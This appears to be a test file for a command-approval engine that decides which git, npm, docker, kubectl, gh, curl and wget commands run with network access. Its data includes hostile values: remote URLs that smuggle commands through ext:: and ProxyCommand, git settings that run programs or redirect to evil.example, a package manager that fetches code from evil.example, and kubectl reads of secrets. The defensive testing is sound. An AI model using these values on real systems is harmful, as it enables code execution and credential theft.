import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { decide } from '../../../src/engine/approval/decide.ts';
import { type Decision } from '../../../src/engine/approval/decision.ts';
import { defaultPolicy } from '../../../src/engine/approval/policy.ts';
import { steeringFile } from '../../../src/engine/approval/serviceAccess.ts';
import { TimeLimit } from '../../../src/engine/command/timeLimit.ts';
import { checkSafety } from '../../../src/engine/safety/checkSafety.ts';

/** The files of a project, by their paths. A name with a slash at its end is an empty folder. */
type Files = Readonly<Record<string, string>>;

const core = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n';
const origin = (url: string) =>
  `[remote "origin"]\n\turl = ${url}\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n`;
const main = '[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n';
const plain = `${core}${origin('https://example.org/a/b.git')}${main}`;

const repository = (config: string, folder = '.git'): Files => ({
  [`${folder}/HEAD`]: 'ref: refs/heads/main\n',
  [`${folder}/objects/`]: '',
  [`${folder}/refs/`]: '',
  [`${folder}/config`]: config,
});

const ask = 'git ls-remote origin';

describe('steeringFile', () => {
  let project = '';

  beforeEach(() => {
    project = realpathSync(mkdtempSync(join(tmpdir(), 'services-')));
  });

  afterEach(() => {
    rmSync(project, { recursive: true });
  });

  function write(files: Files): void {
    for (const [name, text] of Object.entries(files)) {
      const path = join(project, name);
      mkdirSync(name.endsWith('/') ? path : dirname(path), { recursive: true });
      if (!name.endsWith('/')) writeFileSync(path, text);
    }
  }

  function decisionOn(command: string, folder = '.'): Decision {
    const cwd = join(project, folder);
    const judged = {
      command,
      verdict: checkSafety(command, { cwd, folders: [project], home: '/home/me' }),
      doubts: [],
      canBeKept: true,
      canBeContained: false,
      steeringFile: (service: Parameters<typeof steeringFile>[0]) => steeringFile(service, cwd, [project]),
      renamed: new Set<string>(),
      isUsualPath: true,
    };
    return decide(judged, defaultPolicy, new TimeLimit());
  }

  const kindOf = (command: string, folder?: string) => decisionOn(command, folder).kind;

  /** It runs, and with the service. */
  const asks = (command: string, service: string, folder?: string) => {
    assert.deepEqual(decisionOn(command, folder), { kind: 'run', within: 'reading', service }, command);
  };

  /** It is asked about, or has neither network nor credential. */
  const getsNothing = (command: string) => {
    const decision = decisionOn(command);
    const isKept = decision.kind === 'run' && decision.within === 'reading' && !decision.service;
    assert.ok(decision.kind === 'ask' || isKept, command);
  };

  it('lets ordinary questions through', () => {
    write({ ...repository(plain), 'package.json': '{"name":"a","packageManager":"pnpm@9.1.0+sha512.abc"}' });
    const questions: Readonly<Record<string, readonly string[]>> = {
      git: [ask, 'git ls-remote', 'git --no-pager ls-remote --tags origin', 'cd . && git ls-remote origin'],
      npm: [
        'npm view react version',
        'npm outdated',
        'pnpm view react',
        'yarn info react',
        'npm audit --json',
      ],
      gh: ['gh pr list', 'gh pr view 12 -R cli/cli', 'gh api repos/a/b/pulls', 'gh repo view cli/cli'],
      kubectl: [
        'kubectl get pods',
        'kubectl get deploy -o yaml',
        'kubectl logs -f web',
        'kubectl config view',
      ],
      docker: ['docker ps', 'docker images', 'docker version', 'docker logs web', 'docker network inspect x'],
      cargo: ['cargo search serde', 'cargo info serde'],
      pip: ['pip index versions requests', 'pip3 index versions requests'],
      loopback: [
        'curl -s localhost:3000/health',
        'curl -sS -H "Accept: text/html" -o /dev/null -w "%{http_code}" http://127.0.0.1:8080/',
        'cd src; curl -s localhost:3000',
        'wget -qO- --max-redirect=0 http://localhost:3000/',
        'nc -z localhost 5432',
      ],
    };
    for (const [service, commands] of Object.entries(questions))
      for (const command of commands) asks(command, service);
  });

  for (const url of [
    'https://example.org/a/b.git',
    'https://git.example.org:8443/a/b',
    'ssh://git@example.org/a/b.git',
    'ssh://git@example.org:2222/~a/b.git',
    'git@example.org:a/b.git',
  ])
    it(`trusts the address ${url}`, () => {
      write(repository(`${core}${origin(url)}`));
      asks(ask, 'git');
      asks('gh pr list', 'gh');
    });

  for (const url of [
    'e"x"t::sh pay.sh',
    'ext::sh',
    '"https://example.org/a"',
    'https://me:password@example.org/a',
    'http://example.org/a',
    'https://example.org/a b',
    'https://example.org/a\\',
    'ssh://-oProxyCommand=x/a',
    'ssh://git@-oProxyCommand=x/a',
    '-oProxyCommand=x:a',
    'git@example.org::x',
    '../bare',
    '/srv/a.git',
    'file:///srv/a.git',
  ])
    it(`asks about the address ${url}`, () => {
      write(repository(`${core}${origin(url)}`));
      assert.equal(kindOf(ask), 'ask');
      assert.equal(kindOf('gh pr list'), 'ask');
    });

  it('trusts settings that editors, husky and gh write', () => {
    write(
      repository(`# a comment
${plain}\tvscode-merge-base = origin/main
\tgithub-pr-owner-number = "a#b#12"
[user]
\tname = Ada O'Neil-Müller
\temail = ada@example.org
[pull]
\trebase = true
[core]
\thooksPath = .husky/_
[submodule "lib"]
\tactive = true
\turl = https://example.org/lib.git
`),
    );
    asks(ask, 'git');
  });

  for (const setting of [
    '[core]\n\tsshCommand = ./x',
    '[core]\n\tfsmonitor = ./x',
    '[core]\n\tgitProxy = ./x',
    '[core]\n\tbare = true',
    '[core]\n\tworktree = nest',
    '[core]\n\tpager = ./x',
    '[core] sshCommand = ./x',
    '[core]\n\teol = lf\\\n\tx',
    '[include]\n\tpath = other',
    '[includeIf "gitdir:/"]\n\tpath = other',
    '[credential]\n\thelper = !./x',
    '[url "https://evil.example/"]\n\tinsteadOf = https://example.org/',
    '[http]\n\tproxy = evil.example',
    '[protocol "ext"]\n\tallow = always',
    '[extensions]\n\tworktreeConfig = true',
    '[remote "origin"]\n\tuploadpack = ./x',
    '[remote "origin"]\n\tvcs = x',
    '[remote "origin"]\n\tproxy = evil.example',
    '[remote.origin]\n\turl = ext::x',
    '[branch "main"]\n\tremote = https://evil.example/',
    '[branch "main"]\n\tremote = ext::sh',
    '[diff]\n\texternal = x',
    'nonsense',
  ])
    it(`asks about the setting ${JSON.stringify(setting)}`, () => {
      write(repository(`${plain}${setting}\n`));
      assert.equal(kindOf(ask), 'ask');
    });

  const strange: Readonly<Record<string, Files>> = {
    'a file for another repository': { ...repository(plain, 'bare'), '.git': 'gitdir: bare\n' },
    'a common folder': { ...repository(plain), '.git/commondir': '../bare\n' },
    'settings of a working tree': { ...repository(plain), '.git/config.worktree': plain },
    'a remote of the old kind': {
      ...repository(plain),
      '.git/remotes/origin': 'URL: https://evil.example/\n',
    },
    'a branch of the old kind': { ...repository(plain), '.git/branches/origin': 'https://evil.example/\n' },
    'no head': { '.git/config': plain, '.git/objects/': '', '.git/refs/': '' },
    'a head that is none': { ...repository(plain), '.git/HEAD': 'nothing\n' },
  };
  for (const [name, files] of Object.entries(strange))
    it(`asks about a repository with ${name}`, () => {
      write(files);
      assert.equal(kindOf(ask), 'ask');
    });

  it('asks about settings that are a link', () => {
    write({ ...repository(plain), 'other/config': plain });
    rmSync(join(project, '.git/config'));
    symlinkSync(join(project, 'other/config'), join(project, '.git/config'));
    assert.equal(kindOf(ask), 'ask');
  });

  it('asks in a bare repository, and anywhere below it', () => {
    write({ ...repository(plain), ...repository(plain, 'bare'), 'bare/below/': '' });
    assert.equal(kindOf(ask, 'bare'), 'ask');
    assert.equal(kindOf(ask, 'bare/below'), 'ask');
    assert.equal(kindOf(ask, '.git'), 'ask');
    asks(ask, 'git');
  });

  it('goes by where a folder really is', () => {
    write({
      ...repository(plain),
      ...repository(`${plain}[include]\n\tpath = x\n`, 'nest/.git'),
      'nest/in/': '',
    });
    symlinkSync(join(project, 'nest/in'), join(project, 'link'));
    assert.equal(kindOf(ask, 'link'), 'ask');
  });

  it('gives nothing to a command that is run elsewhere than where it was looked', () => {
    write({ ...repository(plain), ...repository(plain, 'nest/.git') });
    for (const command of [
      'git -C nest ls-remote origin',
      'git -C . ls-remote origin',
      'git --git-dir=nest/.git ls-remote origin',
      'git --git-dir nest ls-remote origin',
      'git --work-tree=nest ls-remote origin',
      'git --bare ls-remote origin',
      'git --exec-path=nest ls-remote origin',
      'git -c color.ui=never ls-remote origin',
      'git --config-env=core.sshCommand=X ls-remote origin',
      'cd nest && git ls-remote origin',
      'cd nest; git ls-remote origin',
      '(cd nest; git ls-remote origin)',
      'pushd nest; git ls-remote origin',
      'cd "$X"; git ls-remote origin',
      'env -C nest git ls-remote origin',
      'for d in nest; do (cd "$d" && git ls-remote origin); done',
      'f() { git ls-remote origin; }; cd nest; f',
      'GIT_DIR=nest/.git git ls-remote origin',
      'export GIT_CONFIG_GLOBAL=1; git ls-remote origin',
      'cd nest && npm view react',
      'cd nest && gh pr list',
    ])
      getsNothing(command);
  });

  it('gives nothing for options that name another folder, file or host', () => {
    for (const command of [
      'npm view react --prefix pfx',
      'npm --prefix=pfx view react',
      'npm view react -C pfx',
      'npm view react -w a',
      'npm view react --workspace=a',
      'npm outdated --workspaces',
      'npm view react --userconfig rc',
      'npm view react --globalconfig=rc',
      'npm view react --registry=http://evil.example',
      'pnpm --dir pfx view react',
      'yarn --cwd pfx info react',
      'cargo -C pfx search serde',
      'cargo --config x search serde',
      'docker -H tcp://evil.example ps',
      'docker --config x ps',
      'docker compose ps',
      'docker compose -f x.yml logs',
      'docker compose --project-directory x ps',
      'docker-compose ps',
      'docker inspect web',
      'docker container inspect web',
      'kubectl --kubeconfig x get pods',
      'kubectl get pods --context other',
      'kubectl get pods --server=https://evil.example',
      'kubectl get -f x.yaml',
      'kubectl wait -f x.yaml --for=delete',
      'kubectl get secret',
      'kubectl get secrets -o yaml',
      'kubectl get pods,secret',
      'kubectl describe secret web',
      'kubectl get --raw /api/v1/secrets',
      'python3 -m pip index versions requests',
      'python -I -m pip index versions requests',
      'uv pip index versions requests',
      'pip --python ./x index versions requests',
      'PIP_PYTHON=1 pip index versions requests',
      'pip index versions requests --index-url http://evil.example',
      'GH_HOST=evil gh pr list',
      'gh pr list -R evil/owner/name',
      'gh pr list -R evil.example/owner/name',
      'gh pr -R evil/owner/name list',
      'gh repo view evil/owner/name',
      'gh auth status --hostname evil',
      'gh api https://evil.example/x',
      'gh api repos/a/b --hostname evil',
      'gh api -X POST repos/a/b/issues',
      'npm_config_userconfig=1 npm view react',
    ])
      getsNothing(command);
  });

  it('gives what follows a file of the project no network', () => {
    for (const command of [
      'docker compose config --services',
      'kubectl kustomize overlays',
      'helm lint chart',
    ])
      assert.deepEqual(decisionOn(command), { kind: 'run', within: 'reading' }, command);
  });

  it('knows the options of curl from those of wget', () => {
    for (const command of [
      'wget -qO- http://localhost:3000',
      'wget -qO- --max-redirect=1 http://localhost:3000',
      'wget -qO- --max-redirect=0 --max-redirect=1 http://localhost:3000',
      'wget -qO- --max-redirect=0 -e use_askpass=./x http://localhost:3000',
      'wget -qO- --max-redirect=0 --execute=use_askpass=./x http://localhost:3000',
      'wget -qO- --max-redirect=0 --use-askpass=./x http://localhost:3000',
      'wget -qO- --max-redirect=0 --config=rc http://localhost:3000',
      'wget -qO- --max-redirect=0 -i list http://localhost:3000',
      'wget -qO- --max-redirect=0 --post-file=x http://localhost:3000',
      'wget -qO- --max-redirect=0 --body-file=x --method=GET http://localhost:3000',
      'wget -qO- --max-redirect=0 -o log http://localhost:3000',
      'wget -qO- --max-redirect=0 -r http://localhost:3000',
      'WGETRC=rc wget -qO- --max-redirect=0 http://localhost:3000',
      'curl -T x http://localhost:3000',
      'curl -O http://localhost:3000/x',
      'curl -L http://localhost:3000',
      'curl -K rc http://localhost:3000',
      'curl -d @x http://localhost:3000',
      'curl -H @x http://localhost:3000',
      'curl -x evil.example http://localhost:3000',
      'curl --resolve localhost:3000:192.0.2.1 http://localhost:3000',
      'curl http://localhost@evil.example/',
      'curl http://localhost#@evil.example/',
      'curl http://localhost.evil.example/',
    ])
      getsNothing(command);
  });

  const steering: readonly (readonly [command: string, file: string, text: string])[] = [
    ['npm view react', '.npmrc', 'registry=http://evil.example'],
    ['yarn info react', '.yarnrc.yml', 'yarnPath: ./x.cjs'],
    ['pnpm view react', '.pnpmfile.cjs', ''],
    ['pnpm view react', 'pnpm-workspace.yaml', 'registry: http://evil.example\n'],
    ['yarn info react', 'package.json', '{"packageManager":"yarn@https://evil.example/x.js"}'],
    ['yarn info react', 'package.json', '{"package\\u004danager":"yarn@https://evil.example/x.js"}'],
    ['yarn info react', 'package.json', 'nonsense'],
    ['cargo search serde', '.cargo/config.toml', ''],
    ['cargo search serde', 'rust-toolchain.toml', ''],
    ['glab mr list', '.git/glab-cli/config.yml', 'host: evil.example'],
  ];
  for (const [command, file, text] of steering)
    it(`asks about ${command} beside ${file}: ${text}`, () => {
      write({ ...repository(plain), [file]: text, 'below/': '' });
      assert.equal(kindOf(command), 'ask');
      assert.equal(kindOf(command, 'below'), 'ask');
    });

  it('trusts a workspace of pnpm that only says where packages are', () => {
    write({ 'pnpm-workspace.yaml': "packages:\n  - 'packages/*' # all\n  - apps/web\n" });
    asks('pnpm view react', 'npm');
  });
});
